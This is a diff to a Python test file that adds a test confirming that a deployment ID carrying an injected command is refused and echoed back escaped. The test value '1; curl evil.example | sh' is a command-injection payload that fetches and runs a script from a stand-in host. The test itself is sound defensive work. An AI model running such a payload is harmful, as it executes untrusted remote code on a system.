@@ -285,6 +285,13 @@ def test_an_unknown_deployment_waits_until_somebody_approves_it(build: Callable[
     assert_refused(outcome(lambda: house.platform.launch(house.browser())), DEPLOYMENT_DISABLED)
 
 
+def test_a_deployment_cannot_name_itself_into_a_shell(house: House) -> None:
+    hostile = house.another(deployment_id="1; curl evil.example | sh")
+    found = outcome(lambda: hostile.launch(house.browser()))
+    assert_refused(found, DEPLOYMENT_UNKNOWN)
+    assert "--deployment-id &#39;1; curl evil.example | sh&#39;" in found.response.text
+
+
 def test_joining_a_course_is_recorded_once(build: Callable[..., House]) -> None:
     house = build()
     for _ in range(2):
